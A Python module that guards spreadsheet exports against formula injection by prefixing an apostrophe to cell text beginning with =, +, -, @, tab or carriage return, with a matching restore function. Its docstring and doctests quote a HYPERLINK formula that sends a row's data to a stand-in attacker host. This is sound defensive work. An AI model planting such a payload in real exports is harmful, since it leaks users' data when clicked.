"""Text that a spreadsheet could run: the one rule every export applies.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel, WPS and LibreOffice as a formula when it arrives in a CSV file
(``=HYPERLINK("http://evil.example/?d="&A3,"点击查看")`` would send the row away when
clicked). After a rollup a city exports text its towns wrote, so every export treats
stored text as data:

- **CSV**: such text gets a leading apostrophe (:func:`neutralise`, the OWASP rule); the
  importers take it off again (:func:`restore`), so a file exported and imported back
  keeps the text as it was.
- **.xlsx**: text is always written as a string cell, never a formula
  (:func:`is_formula_like` tells the writers which text needs the care).

>>> neutralise('=HYPERLINK("http://evil.example/","点击查看")')
'\\'=HYPERLINK("http://evil.example/","点击查看")'
>>> neutralise("-2015"), neutralise("中心大道"), neutralise("")
("'-2015", '中心大道', '')
>>> restore(neutralise("@SUM(A1)")), restore("'中心大道")
('@SUM(A1)', "'中心大道")
"""

from __future__ import annotations

from typing import Final

__all__ = ["TRIGGERS", "is_formula_like", "neutralise", "restore"]

#: The first characters that make a spreadsheet read a cell as a formula.
TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would take ``text`` for a formula.

    >>> is_formula_like("=1+1"), is_formula_like("\\t=1"), is_formula_like("1-2")
    (True, True, False)
    """
    return text.startswith(TRIGGERS)


def neutralise(text: str) -> str:
    """``text`` for a CSV cell: an apostrophe before text that starts like a formula."""
    return "'" + text if text.startswith(TRIGGERS) else text


def restore(text: str) -> str:
    """The text :func:`neutralise` was given: the apostrophe it added taken off again
    (an apostrophe before any other text is the writer's own and stays)."""
    if text.startswith("'") and text[1:].startswith(TRIGGERS):
        return text[1:]
    return text
